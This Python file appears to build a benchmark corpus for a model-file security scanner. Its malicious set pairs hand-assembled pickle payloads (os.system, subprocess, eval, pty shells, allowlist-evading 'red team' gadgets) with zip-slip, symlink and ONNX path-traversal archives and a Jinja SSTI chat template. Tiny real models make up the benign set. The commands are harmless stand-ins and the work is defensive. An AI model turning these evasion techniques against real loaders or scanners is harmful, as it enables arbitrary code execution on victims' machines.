"""Build the scanner detection corpus: malicious files from published techniques, benign models.

Every malicious payload is written opcode by opcode (never by pickling a live object, never
executed); benign files are made by the real libraries from tiny models trained on bundled
data. Nothing is downloaded. Run ``python bench/corpus/generate.py OUT`` to write the corpus;
``bench/scan.py`` and ``tests/regressions`` import :func:`build` and the payload helpers.

Each sample's name says its technique; ``malicious`` says what a scanner should conclude.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# --------------------------------------------------------------------------- opcode writer


def proto(n: int = 2) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (protocols 0-3)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE for long strings)."""
    raw = value.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def bstr(value: str) -> bytes:
    """BINUNICODE, valid from protocol 1 on."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def frame(body: bytes, declared: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if declared is None else declared) + body


MARK, STOP, REDUCE, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = (
    b"(",
    b".",
    b"R",
    b"t",
    b"\x85",
    b"\x86",
    b")",
)
BUILD, MEMOIZE, EMPTY_DICT, SETITEM, NEWOBJ, POP = b"b", b"\x94", b"}", b"s", b"\x81", b"0"


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def call(module: str, name: str, *args: bytes, p: int = 2) -> bytes:
    """``module.name(*args)`` as GLOBAL + MARK args TUPLE + REDUCE, without PROTO or STOP."""
    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def pickle_of(body: bytes, p: int = 2) -> bytes:
    return proto(p) + body + STOP


SHELL = "echo hauberk-corpus"

# --------------------------------------------------------------------------- pickle payloads


def payloads() -> dict[str, bytes]:
    """Raw malicious pickle streams by technique name."""
    out: dict[str, bytes] = {}
    out["os_system_proto0"] = b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR."
    out["posix_system"] = pickle_of(call("posix", "system", bstr(SHELL)))
    out["nt_system"] = pickle_of(call("nt", "system", bstr(SHELL)))
    out["subprocess_popen"] = pickle_of(call("subprocess", "Popen", MARK + bstr("id") + b"l"))
    out["subprocess_check_output"] = pickle_of(call("subprocess", "check_output", bstr("id")))
    out["subprocess_run_proto4"] = pickle_of(
        frame(stack_global("subprocess", "run") + text("id") + TUPLE1 + REDUCE), 4
    )
    out["builtins_eval"] = pickle_of(call("builtins", "eval", bstr("1+1")))
    out["builtins_exec"] = pickle_of(call("builtins", "exec", bstr("import os")))
    out["builtins_compile"] = pickle_of(
        call("builtins", "compile", bstr("1"), bstr("x"), bstr("eval"))
    )
    out["builtin_py2_eval"] = b"c__builtin__\neval\n(S'1+1'\ntR."
    out["builtins_open"] = pickle_of(call("builtins", "open", bstr("/etc/hostname")))
    out["io_open"] = pickle_of(call("io", "open", bstr("/etc/hostname")))
    # memo indirection: the strings and the callable travel through the memo
    out["memo_stack_global"] = pickle_of(
        text("o") + MEMOIZE + POP + text("system") + MEMOIZE + POP
        + text("os") + MEMOIZE + get(2) + get(1) + b"\x93" + MEMOIZE + POP
        + get(3) + text(SHELL) + TUPLE1 + REDUCE,
        4,
    )  # fmt: skip
    out["memo_global_put_get"] = pickle_of(
        glob("os", "system")
        + put(7)
        + POP
        + b"N"
        + POP
        + get(7)
        + MARK
        + bstr(SHELL)
        + TUPLE
        + REDUCE
    )
    # dotted names walked by protocol 4+ (_getattribute)
    out["dotted_torch_serialization_os"] = pickle_of(
        stack_global("torch", "serialization.os.system") + text(SHELL) + TUPLE1 + REDUCE, 4
    )
    out["dotted_builtins_dunder"] = pickle_of(
        stack_global("collections", "OrderedDict.__init__.__globals__") + POP + b"N", 4
    )
    out["dotted_numpy_testing_subprocess"] = pickle_of(
        stack_global("numpy", "testing._private.utils.subprocess.run")
        + text("id")
        + TUPLE1
        + REDUCE,
        4,
    )
    # attribute lookup by string
    out["getattr_import_chain"] = pickle_of(
        glob("builtins", "getattr") + MARK
        + call("builtins", "__import__", bstr("os")) + bstr("system") + TUPLE + REDUCE
        + MARK + bstr(SHELL) + TUPLE + REDUCE
    )  # fmt: skip
    out["importlib_import_module"] = pickle_of(
        glob("builtins", "getattr") + MARK
        + call("importlib", "import_module", bstr("os")) + bstr("system") + TUPLE + REDUCE
        + MARK + bstr(SHELL) + TUPLE + REDUCE
    )  # fmt: skip
    out["inspect_getattr_static"] = pickle_of(
        glob("inspect", "getattr_static") + MARK
        + call("importlib", "import_module", bstr("os")) + bstr("system") + TUPLE + REDUCE
        + MARK + bstr(SHELL) + TUPLE + REDUCE
    )  # fmt: skip
    out["pkgutil_resolve_name"] = pickle_of(
        call("pkgutil", "resolve_name", bstr("os:system")) + MARK + bstr(SHELL) + TUPLE + REDUCE
    )
    out["operator_attrgetter"] = pickle_of(
        call("operator", "attrgetter", bstr("system"))
        + MARK + call("importlib", "import_module", bstr("os")) + TUPLE + REDUCE
        + MARK + bstr(SHELL) + TUPLE + REDUCE
    )  # fmt: skip
    out["operator_methodcaller"] = pickle_of(
        call("operator", "methodcaller", bstr("system"), bstr(SHELL))
        + MARK + call("builtins", "__import__", bstr("os")) + TUPLE + REDUCE
    )  # fmt: skip
    out["functools_partial"] = pickle_of(
        call("functools", "partial", glob("os", "system"), bstr(SHELL)) + EMPTY_TUPLE + REDUCE
    )
    out["numpy_ufunc_reconstruct"] = pickle_of(
        call("numpy.core", "_ufunc_reconstruct", bstr("os"), bstr("system"))
        + MARK + bstr(SHELL) + TUPLE + REDUCE
    )  # fmt: skip
    inner = pickle_of(call("os", "system", bstr(SHELL)))
    out["nested_pickle_loads"] = pickle_of(call("pickle", "loads", data(inner)), 3)
    out["nested_underscore_pickle"] = pickle_of(call("_pickle", "loads", data(inner)), 3)
    out["marshal_loads"] = pickle_of(call("marshal", "loads", data(b"\xe3\x00\x00\x00")), 3)
    out["runpy_run_path"] = pickle_of(call("runpy", "run_path", bstr("/tmp/x.py")))
    out["code_interact"] = pickle_of(call("code", "interact", bstr("x")))
    out["ctypes_cdll"] = pickle_of(call("ctypes", "CDLL", bstr("libc.so.6")))
    out["socket_connection"] = pickle_of(
        call("socket", "create_connection", MARK + bstr("127.0.0.1") + b"M\x50\x00" + TUPLE)
    )
    out["shutil_rmtree"] = pickle_of(call("shutil", "rmtree", bstr("/tmp/nonexistent-hauberk")))
    out["webbrowser_open"] = pickle_of(call("webbrowser", "open", bstr("http://127.0.0.1/")))
    out["pip_main"] = pickle_of(call("pip", "main", MARK + bstr("install") + bstr("x") + b"l"))
    out["pdb_run"] = pickle_of(call("pdb", "run", bstr("1")))
    out["bdb_dotted"] = pickle_of(stack_global("bdb", "Bdb.run") + text("1") + TUPLE1 + REDUCE, 4)
    out["cprofile_run"] = pickle_of(call("cProfile", "run", bstr("1")))
    out["timeit_timeit"] = pickle_of(call("timeit", "timeit", bstr("1")))
    out["asyncio_subprocess"] = pickle_of(
        call("asyncio.subprocess", "create_subprocess_shell", bstr(SHELL))
    )
    out["pty_spawn"] = pickle_of(call("pty", "spawn", bstr("/bin/sh")))
    out["torch_hub_load"] = pickle_of(call("torch.hub", "load", bstr("x/y"), bstr("m")))
    out["numpy_load_pickle"] = pickle_of(call("numpy", "load", bstr("/tmp/x.npy")))
    out["sys_modules_dotted"] = pickle_of(stack_global("sys", "modules") + POP + b"N", 4)
    # other call opcodes
    out["inst_opcode"] = b"(S'" + SHELL.encode() + b"'\nios\nsystem\n."
    out["obj_opcode"] = proto(2) + MARK + glob("os", "system") + bstr(SHELL) + b"o" + STOP
    out["newobj_ex_popen"] = pickle_of(
        stack_global("subprocess", "Popen") + MARK + text("id") + TUPLE + EMPTY_DICT + b"\x92", 4
    )
    out["build_monkeypatch"] = pickle_of(
        glob("collections", "OrderedDict") + MARK + b"N" + EMPTY_DICT + bstr("__repr__")
        + glob("os", "getcwd") + SETITEM + TUPLE2 + BUILD
    )  # fmt: skip
    out["ext_opcode"] = proto(2) + b"\x82\x01" + MARK + bstr(SHELL) + TUPLE + REDUCE + STOP
    # broken streams that run something before they fail
    out["broken_after_call_badop"] = proto(2) + call("os", "system", bstr(SHELL)) + b"\xff"
    out["broken_after_call_truncated"] = proto(2) + call("os", "system", bstr(SHELL))
    out["broken_after_call_underflow"] = (
        proto(2) + call("os", "system", bstr(SHELL)) + REDUCE + STOP
    )
    # frame-length tricks
    body = stack_global("os", "system") + text(SHELL) + TUPLE1 + REDUCE + STOP
    out["frame_declared_too_long"] = proto(4) + frame(body, len(body) + 4096)
    out["frame_zero_then_payload"] = proto(4) + frame(b"", 0) + body
    # the frame ends inside an opcode: C reads on, pickle.py raises (scanners disagree)
    out["frame_split_opcode"] = proto(4) + b"\x95" + struct.pack("<Q", 3) + body
    # a benign pickle followed by a malicious one
    out["trailing_second_pickle"] = pickle_of(b"N") + pickle_of(call("os", "system", bstr(SHELL)))
    return out


EVIL = pickle_of(call("os", "system", bstr(SHELL)))


# --------------------------------------------------------------------------- red team, round 2
# Each stream is one CPython's pickle.loads runs to the dangerous call (the regression tests
# check that with harmless stand-ins for every global). Grouped by the class of scanner gap.

TMP = "/tmp/hauberk-corpus"


def _list_of(*items: bytes) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e"


def redteam2() -> dict[str, tuple[bytes, str]]:
    """Round-2 red-team gadgets: name -> (stream, ``module.name`` that the load ends up calling)."""
    out: dict[str, tuple[bytes, str]] = {}
    # -- callables outside the allowlist (used to be medium, or allowed by a pattern)
    out["rt2_pydoc_pipepager"] = (
        pickle_of(call("pydoc", "pipepager", bstr("x"), bstr(SHELL))),
        "pydoc.pipepager",
    )
    out["rt2_osx_support_read_output"] = (
        pickle_of(call("_osx_support", "_read_output", bstr(SHELL))),
        "_osx_support._read_output",
    )
    out["rt2_uuid_command_stdout"] = (
        pickle_of(call("uuid", "_get_command_stdout", bstr("id"))),
        "uuid._get_command_stdout",
    )
    out["rt2_imaplib_stream"] = (
        pickle_of(call("imaplib", "IMAP4_stream", bstr(SHELL))),
        "imaplib.IMAP4_stream",
    )
    out["rt2_doctest_debug_script"] = (
        pickle_of(call("doctest", "debug_script", bstr("import os"))),
        "doctest.debug_script",
    )
    out["rt2_typing_eval_type"] = (
        pickle_of(
            call("typing", "_eval_type", call("typing", "ForwardRef", bstr("__import__('os')")),
                 EMPTY_DICT, EMPTY_DICT)
        ),
        "typing._eval_type",
    )  # fmt: skip
    out["rt2_logging_dictconfig"] = (
        pickle_of(
            call("logging.config", "dictConfig",
                 EMPTY_DICT + bstr("version") + b"K\x01" + SETITEM)
        ),
        "logging.config.dictConfig",
    )  # fmt: skip
    out["rt2_torch_collect_env_run"] = (
        pickle_of(call("torch.utils.collect_env", "run", bstr(SHELL))),
        "torch.utils.collect_env.run",
    )
    out["rt2_torch_fx_reduce_graph_module"] = (
        pickle_of(
            call("torch.fx.graph_module", "reduce_graph_module",
                 EMPTY_DICT + bstr("_code") + bstr("import os") + SETITEM, bstr(""))
        ),
        "torch.fx.graph_module.reduce_graph_module",
    )  # fmt: skip
    out["rt2_pyio_open"] = (pickle_of(call("_pyio", "open", bstr(TMP), bstr("w"))), "_pyio.open")
    out["rt2_numpy_npyio_impl_load"] = (
        pickle_of(call("numpy.lib._npyio_impl", "load", bstr(TMP + ".npy"), b"N", b"\x88")),
        "numpy.lib._npyio_impl.load",
    )
    out["rt2_sklearn_tempmemmap"] = (
        pickle_of(call("sklearn.utils._testing", "TempMemmap", _list_of(b"K\x01"))),
        "sklearn.utils._testing.TempMemmap",
    )
    out["rt2_gzip_open_creates_file"] = (
        pickle_of(call("gzip", "open", bstr(TMP + ".gz"), bstr("wb"))),
        "gzip.open",
    )
    out["rt2_inst_wave_open"] = (
        MARK + b"S'" + TMP.encode() + b".wav'\nS'wb'\niwave\nopen\n" + STOP,
        "wave.open",
    )
    out["rt2_newobj_ex_unknown_class"] = (
        pickle_of(
            stack_global("bz2", "BZ2File") + MARK + text(TMP + ".bz2") + text("wb") + TUPLE
            + EMPTY_DICT + b"\x92",
            4,
        ),
        "bz2.BZ2File",
    )  # fmt: skip
    # -- trampolines: an allowed callable handed the payload
    out["rt2_list_drains_starmap"] = (
        pickle_of(
            call("builtins", "list",
                 call("itertools", "starmap", glob("gzip", "open"),
                      _list_of(MARK + bstr(TMP + ".gz") + bstr("wb") + TUPLE)))
        ),
        "gzip.open",
    )  # fmt: skip
    out["rt2_tuple_drains_map_two_iterables"] = (
        pickle_of(
            call("builtins", "tuple",
                 call("builtins", "map", glob("lzma", "open"),
                      _list_of(bstr(TMP + ".xz")), _list_of(bstr("wb"))))
        ),
        "lzma.open",
    )  # fmt: skip
    out["rt2_called_partial"] = (
        pickle_of(call("functools", "partial", glob("wave", "open"), bstr(TMP + ".wav"),
                       bstr("wb")) + EMPTY_TUPLE + REDUCE),
        "wave.open",
    )  # fmt: skip
    out["rt2_partial_setstate_swaps_function"] = (
        pickle_of(
            call("builtins", "list",
                 call("builtins", "map",
                      call("functools", "partial", glob("builtins", "str"))
                      + MARK + glob("wave", "open") + MARK + bstr("wb") + TUPLE
                      + EMPTY_DICT + b"N" + TUPLE + BUILD,
                      _list_of(bstr(TMP + ".wav"))))
        ),
        "wave.open",
    )  # fmt: skip
    out["rt2_reconstructor_base_init"] = (
        pickle_of(
            call("copyreg", "_reconstructor", glob("wave", "Wave_write"),
                 glob("wave", "Wave_write"), bstr(TMP + ".wav"))
        ),
        "wave.Wave_write",
    )  # fmt: skip
    out["rt2_starmap_list_filled_after_call"] = (
        pickle_of(
            b"]" + put(1)
            + call("itertools", "starmap", glob("gzip", "open"), get(1)) + put(2) + POP
            + get(1) + MARK + MARK + bstr(TMP + ".gz") + bstr("wb") + TUPLE + b"e" + POP
            + call("builtins", "list", get(2))
        ),
        "gzip.open",
    )  # fmt: skip
    out["rt2_map_to_pipepager"] = (
        pickle_of(
            call("builtins", "set",
                 call("builtins", "map", glob("pydoc", "pipepager"), _list_of(bstr("x")),
                      _list_of(bstr(SHELL))))
        ),
        "pydoc.pipepager",
    )  # fmt: skip
    # -- streams CPython accepts that the interpreter used to stop on, payload after them
    pay = glob("os", "system") + MARK + b"S'" + SHELL.encode() + b"'\n" + TUPLE + REDUCE
    out["rt2_int_negative_hex"] = (b"I-0x1\n0" + pay + STOP, "os.system")
    out["rt2_int_nul_suffix"] = (b"I5\x00junk\n0" + pay + STOP, "os.system")
    out["rt2_long_nul_suffix"] = (b"L7\x00L\n0" + pay + STOP, "os.system")
    out["rt2_setitem_on_list"] = (b"(K\x01lK\x00K\x02s0" + pay + STOP, "os.system")
    out["rt2_empty_appends_on_int"] = (b"K\x01(e" + pay + STOP, "os.system")
    out["rt2_empty_additems_on_none"] = (proto(4) + b"N(\x90" + pay + STOP, "os.system")
    out["rt2_append_to_bytearray"] = (
        proto(5) + b"\x96\x01\x00\x00\x00\x00\x00\x00\x00zK\x41a0" + pay + STOP,
        "os.system",
    )
    out["rt2_long_prefix_no_proto"] = (b"N0" * 40_000 + pay + STOP, "os.system")
    return out


# --------------------------------------------------------------------------- containers


def zip_bytes(members: list[tuple[str, bytes]], *, stored: bool = True) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, payload in members:
            zf.writestr(name, payload)
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes]], links: list[tuple[str, str]] = ()) -> bytes:  # type: ignore[assignment]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, payload in members:
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tf.addfile(info, io.BytesIO(payload))
        for name, target in links:
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def torch_zip(
    data_pkl: bytes, folder: str = "archive", extra: list[tuple[str, bytes]] = ()
) -> bytes:  # type: ignore[assignment]
    members = [(f"{folder}/data.pkl", data_pkl), (f"{folder}/version", b"3\n"), *extra]
    return zip_bytes(members)


def corrupt_crc(blob: bytes, member: str) -> bytes:
    """Flip the CRC of ``member`` in both local and central headers."""
    out = bytearray(blob)
    name = member.encode()
    for sig, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        pos = out.find(sig)
        while pos >= 0:
            if out[pos + name_at : pos + name_at + len(name)] == name:
                crc = struct.unpack_from("<I", out, pos + crc_at)[0]
                struct.pack_into("<I", out, pos + crc_at, crc ^ 0xDEADBEEF)
            pos = out.find(sig, pos + 4)
    return bytes(out)


TORCH_MAGIC_PICKLE = proto(2) + b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19" + STOP


def legacy_torch(main: bytes, sys_info: bytes | None = None, keys: bytes | None = None) -> bytes:
    sys_info = sys_info or pickle_of(EMPTY_DICT)
    keys = keys or pickle_of(b"]")
    return TORCH_MAGIC_PICKLE + pickle_of(b"M\xe9\x03") + sys_info + main + keys


def gguf_bytes(template: str) -> bytes:
    def gstr(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for key, value in kv:
        body += gstr(key) + struct.pack("<I", 8) + gstr(value)
    return body


def safetensors_bytes(header: dict[str, object], payload: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + payload


def keras_zip(config: dict[str, object]) -> bytes:
    return zip_bytes(
        [
            ("metadata.json", json.dumps({"keras_version": "3.3.3"}).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", b""),
        ]
    )


def _keras_config(lambda_layer: bool, custom: bool = False) -> dict[str, object]:
    layers: list[dict[str, object]] = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 4]},
        },
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "name": "dense"}},
    ]
    if lambda_layer:
        layers.append(
            {
                "module": "keras.layers",
                "class_name": "Lambda",
                "config": {
                    "name": "lambda",
                    "function": {
                        "class_name": "__lambda__",
                        "config": {
                            "code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wYAAACXAHwAUwApAU4pAA==",
                            "defaults": None,
                        },
                    },
                },
            }
        )
    if custom:
        layers.append({"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {}})
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
    }


def onnx_bytes(*, location: str | None = None, domain: str | None = None) -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 0.0, 0.0, 1.0])
    if location is not None:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "16")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    op_domain = domain or ""
    node = helper.make_node(
        "MatMul" if not domain else "Backdoor", ["X", "W"], ["Y"], domain=op_domain
    )
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [weight],
    )
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model = helper.make_model(graph, opset_imports=opsets, producer_name="hauberk-corpus")
    return bytes(model.SerializeToString())


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def h5_with_config(path: Path, config: dict[str, object]) -> bool:
    try:
        import h5py
    except ImportError:
        return False
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(
            {"class_name": config["class_name"], "config": config["config"]}
        )
        f.create_dataset("w", data=[1.0, 2.0])
    return True


# --------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Sample:
    name: str
    path: Path
    malicious: bool
    technique: str


def _malicious(out: Path) -> list[Sample]:
    samples: list[Sample] = []

    def add(name: str, payload: bytes, technique: str) -> None:
        path = out / "malicious" / name
        path.write_bytes(payload)
        samples.append(Sample(name, path, True, technique))

    for name, payload in payloads().items():
        add(f"{name}.pkl" if "." not in name else name, payload, name)
    for name, (payload, reached) in redteam2().items():
        add(f"{name}.pkl", payload, f"red team round 2: reaches {reached}")
    legacy_sd = legacy_torch(pickle_of(EMPTY_DICT))
    add("torch_zip_evil.pt", torch_zip(EVIL), "torch zip with a malicious data.pkl")
    add(
        "torch_zip_renamed_folder.bin", torch_zip(EVIL, folder="weights_v2"), "renamed inner folder"
    )
    add(
        "torch_zip_extra_pickle.pt",
        torch_zip(pickle_of(EMPTY_DICT), extra=[("archive/extra/opt.pkl", EVIL)]),
        "extra pickle member",
    )
    add("torch_zip_bad_crc.pt", corrupt_crc(torch_zip(EVIL), "archive/data.pkl"), "bad CRC")
    add("torch_legacy_main.pt", legacy_torch(EVIL), "legacy torch: data pickle")
    add(
        "torch_legacy_sysinfo.pt",
        legacy_torch(pickle_of(EMPTY_DICT), sys_info=EVIL),
        "legacy torch: sys_info",
    )
    add(
        "torch_legacy_keys.pt",
        legacy_torch(pickle_of(EMPTY_DICT), keys=EVIL),
        "legacy torch: storage keys",
    )
    add(
        "torch_legacy_tar.tar",
        tar_bytes(
            [
                ("sys_info", pickle_of(EMPTY_DICT)),
                ("pickle", EVIL),
                ("storages", pickle_of(b"K\x00")),
                ("tensors", pickle_of(b"K\x00")),
            ]
        ),
        "legacy torch tar",
    )
    del legacy_sd
    add("joblib_plain.joblib", EVIL, "joblib")
    add("joblib_zlib.joblib", zlib.compress(EVIL), "joblib zlib")
    add("joblib_gzip.joblib", gzip.compress(EVIL), "joblib gzip")
    add("joblib_bz2.joblib", bz2.compress(EVIL), "joblib bz2")
    add("joblib_xz.joblib", lzma.compress(EVIL), "joblib xz")
    add("joblib_lzma.joblib", lzma.compress(EVIL, format=lzma.FORMAT_ALONE), "joblib lzma")
    add("numpy_object.npy", npy_object(EVIL), "npy object array")
    add("numpy_npz.npz", zip_bytes([("a.npy", npy_object(EVIL))]), "npz object array")
    add("zip_pickle.zip", zip_bytes([("model/weights.bin", EVIL)], stored=False), "zip member")
    add("zip_nested.zip", zip_bytes([("inner.zip", zip_bytes([("m.pkl", EVIL)]))]), "nested zip")
    add("tar_gz_pickle.tgz", gzip.compress(tar_bytes([("model.pkl", EVIL)])), "tar.gz member")
    add("zip_traversal.zip", zip_bytes([("../../.bashrc", b"echo owned\n")]), "zip-slip")
    add(
        "tar_symlink.tar", tar_bytes([("ok.txt", b"x")], [("model.bin", "/etc/passwd")]), "tar link"
    )
    add("keras_lambda.keras", keras_zip(_keras_config(True)), "Keras Lambda layer")
    add("keras_custom.keras", keras_zip(_keras_config(False, custom=True)), "Keras custom object")
    path = out / "malicious" / "keras_lambda.h5"
    if h5_with_config(path, _keras_config(True)):
        samples.append(Sample(path.name, path, True, "HDF5 Lambda layer"))
    add(
        "onnx_external_traversal.onnx",
        onnx_bytes(location="../../../etc/passwd"),
        "ONNX external data",
    )
    add("onnx_custom_domain.onnx", onnx_bytes(domain="com.evil.ops"), "ONNX custom op")
    add(
        "safetensors_overlap.safetensors",
        safetensors_bytes(
            {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
             "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
            bytes(12),
        ),
        "overlapping tensors",
    )  # fmt: skip
    add(
        "safetensors_header_bomb.safetensors",
        struct.pack("<Q", 10**12) + b'{"a": {}}' + bytes(16),
        "header size bomb",
    )
    add(
        "gguf_template_ssti.gguf",
        gguf_bytes("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        "Jinja SSTI in chat template",
    )
    return samples


def _benign(out: Path) -> list[Sample]:
    import joblib
    import numpy as np
    import torch
    from sklearn.datasets import load_digits, load_iris
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.svm import SVC

    folder = out / "benign"
    samples: list[Sample] = []

    def add(name: str, technique: str) -> None:
        samples.append(Sample(name, folder / name, False, technique))

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3))
    torch.save(net.state_dict(), folder / "torch_state_dict.pt")
    add("torch_state_dict.pt", "torch zip state_dict")
    torch.save(net, folder / "torch_full_model.pt")
    add("torch_full_model.pt", "torch zip whole nn.Sequential")
    torch.save(net.state_dict(), folder / "torch_legacy.pt", _use_new_zipfile_serialization=False)
    add("torch_legacy.pt", "legacy torch.save")
    opt = torch.optim.Adam(net.parameters())
    net(torch.randn(2, 4)).sum().backward()
    opt.step()
    torch.save(
        {"model": net.state_dict(), "optim": opt.state_dict(), "epoch": 3},
        folder / "torch_checkpoint.pt",
    )
    add("torch_checkpoint.pt", "torch checkpoint with optimizer")
    x, y = load_iris(return_X_y=True)
    clf = LogisticRegression(max_iter=300).fit(x, y)
    (folder / "sklearn_logreg.pkl").write_bytes(__import__("pickle").dumps(clf, protocol=4))
    add("sklearn_logreg.pkl", "sklearn pickle")
    dx, dy = load_digits(return_X_y=True)
    forest = RandomForestClassifier(n_estimators=5, random_state=0).fit(dx[:300], dy[:300])
    joblib.dump(forest, folder / "sklearn_forest.joblib")
    add("sklearn_forest.joblib", "joblib random forest")
    pipe = make_pipeline(StandardScaler(), SVC(probability=True, random_state=0)).fit(x, y)
    joblib.dump(pipe, folder / "sklearn_pipeline_zlib.joblib", compress=3)
    add("sklearn_pipeline_zlib.joblib", "joblib zlib pipeline")
    joblib.dump(
        {"w": np.arange(12.0).reshape(3, 4), "names": np.array(["a", "b"], dtype=object)},
        folder / "joblib_arrays.joblib",
    )
    add("joblib_arrays.joblib", "joblib arrays")
    np.save(folder / "array.npy", np.linspace(0, 1, 10))
    add("array.npy", "npy")
    np.savez_compressed(folder / "arrays.npz", a=np.ones(3), b=np.zeros((2, 2)))
    add("arrays.npz", "npz")
    from safetensors.torch import save_file

    save_file(net.state_dict(), folder / "model.safetensors")
    add("model.safetensors", "safetensors")
    (folder / "model.onnx").write_bytes(onnx_bytes())
    add("model.onnx", "ONNX")
    (folder / "chat.gguf").write_bytes(
        gguf_bytes(
            "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] "
            "| trim }}{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
        )
    )
    add("chat.gguf", "GGUF with a chat template")
    (folder / "model.keras").write_bytes(keras_zip(_keras_config(False)))
    add("model.keras", "Keras v3")
    if h5_with_config(folder / "model.h5", _keras_config(False)):
        add("model.h5", "Keras HDF5")
    import pickle

    (folder / "plain_data.pkl").write_bytes(
        pickle.dumps({"lr": 0.1, "layers": [1, 2, 3], "name": "m", "arr": np.ones(3)}, protocol=0)
    )
    add("plain_data.pkl", "protocol 0 pickle of data")
    (folder / "model_bundle.tar.gz").write_bytes(
        gzip.compress(tar_bytes([("m/model.safetensors", (folder / "model.safetensors").read_bytes()),
                                 ("m/config.json", b'{"hidden": 8}')]))
    )  # fmt: skip
    add("model_bundle.tar.gz", "tar.gz model folder")
    return samples


def build(out: Path, *, benign: bool = True) -> list[Sample]:
    """Write the corpus under ``out/malicious`` and ``out/benign``; returns its samples."""
    (out / "malicious").mkdir(parents=True, exist_ok=True)
    (out / "benign").mkdir(parents=True, exist_ok=True)
    samples = _malicious(out)
    if benign:
        samples += _benign(out)
    return samples


Builder = Callable[[Path], list[Sample]]

if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    built = build(target)
    bad = sum(s.malicious for s in built)
    print(f"wrote {len(built)} samples ({bad} malicious, {len(built) - bad} benign) to {target}")
